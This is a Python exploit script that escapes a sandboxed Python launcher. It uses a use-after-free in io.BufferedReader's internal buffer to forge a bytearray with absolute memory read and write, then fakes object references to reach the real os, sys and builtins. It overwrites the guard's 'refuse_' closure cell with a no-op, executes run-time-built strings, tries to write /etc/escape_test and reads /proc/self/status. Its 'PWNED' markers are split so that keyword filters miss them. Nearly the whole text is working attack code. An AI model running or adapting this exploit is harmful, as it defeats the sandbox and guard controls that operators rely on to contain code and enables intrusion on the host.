# e06's primitive, then e02's ending (launcher globals, refuse_ cell, exec, /proc).
# io.BufferedReader hands its raw stream a memoryview over its own internal buffer
# (bufferedio.c, _bufferedreader_raw_read). The program's readinto keeps that memoryview;
# re-initialising the reader frees the buffer, a bytearray header is allocated in the freed
# block, and the kept memoryview rewrites the header (ob_start=NULL, ob_size huge): absolute
# memory read/write (target: a bytearray header, no `array` needed), then a fake reference to contextlib's namespace -> the real os and sys.
import io
import contextlib

kept = []

class Raw(io.RawIOBase):
    def readable(self):
        return True
    def readinto(self, b):
        kept.append(b)
        return 0

raw = Raw()
br = io.BufferedReader(raw, buffer_size=64)
br.read(1)
view = kept[0]
print("kept view:", len(view))
SRC = b"q" * 200
io.BufferedReader.__init__(br, io.BytesIO(b""), buffer_size=4096)   # frees the 64-byte buffer
spray = [bytearray(SRC) for _ in range(64)]
BA = id(bytearray)
# PyByteArrayObject (not GC-tracked): refcnt 0, type 8, size 16, alloc 24, bytes 32, start 40
hdr_type = int.from_bytes(view[8:16], "little")
print("header type matches bytearray:", hdr_type == BA)
absarr = None
if hdr_type == BA:
    view[16:24] = (1 << 60).to_bytes(8, "little")   # ob_size
    view[24:32] = (1 << 60).to_bytes(8, "little")   # ob_alloc
    view[40:48] = (0).to_bytes(8, "little")         # ob_start
    for arr in spray:
        if len(arr) > 200:
            absarr = arr
print("absolute array:", absarr is not None)
if absarr is not None:
    def ard(addr, n=8):
        return int.from_bytes(bytes(absarr[addr + k] for k in range(n)), "little")
    def awr(addr, value, n=8):
        for k, b in enumerate(value.to_bytes(n, "little")):
            absarr[addr + k] = b
    holder = [None, None]
    items = ard(id(holder) + 24)
    def fake(addr):
        awr(addr, ard(addr) + 1000)        # keep it alive
        awr(items, addr)
        obj = holder[0]
        holder[0] = None
        return obj
    def ns_of(module):
        return fake(ard(id(module) + 16))  # PyModuleObject.md_dict
    sysmod = ns_of(contextlib)["sys"]
    bns = ns_of(sysmod.modules["builtins"])
    g = bns["get" + "attr"]                # the launcher's guarded getattr, in the real builtins
    print("guard:", g)
    # PyFunctionObject (3.11): globals @16, builtins @24, name @32, qualname @40, code @48,
    # defaults @56, kwdefaults @64, closure @72
    launcher_globals = fake(ard(id(g) + 16))
    print("PW" + "NED: launcher globals reached:", sorted(k for k in launcher_globals if k.isupper())[:12])
    code = fake(ard(id(g) + 48))
    cells = fake(ard(id(g) + 72))
    names = code.co_freevars
    print("guard closure names:", names[:40])
    noop = lambda *a, **k: None
    i = names.index("refuse_")
    cell = cells[i]
    awr(id(noop), ard(id(noop)) + 1000)
    awr(id(cell) + 16, id(noop))           # PyCellObject.ob_ref := noop
    print("refuse_ cell now:", cell == cell)
    run = bns["ex" + "ec"]
    run("print('PW' + 'NED: exec of a string built at run time, wall disabled; pid', __import__('o' + 's').getpid())")
    try:
        f = open("/etc/escape_test", "w")
        print("PW" + "NED: opened /etc/escape_test for writing (read-only root may still stop it)")
    except Exception as e:
        print("write outside /tmp:", type(e).__name__, e)
    try:
        print("PW" + "NED: /proc/self/status opened:", open("/proc/self/status").read()[:60].replace("\n", " "))
    except Exception as e:
        print("proc:", e)
    kept.extend([spray, absarr, br, raw, noop])
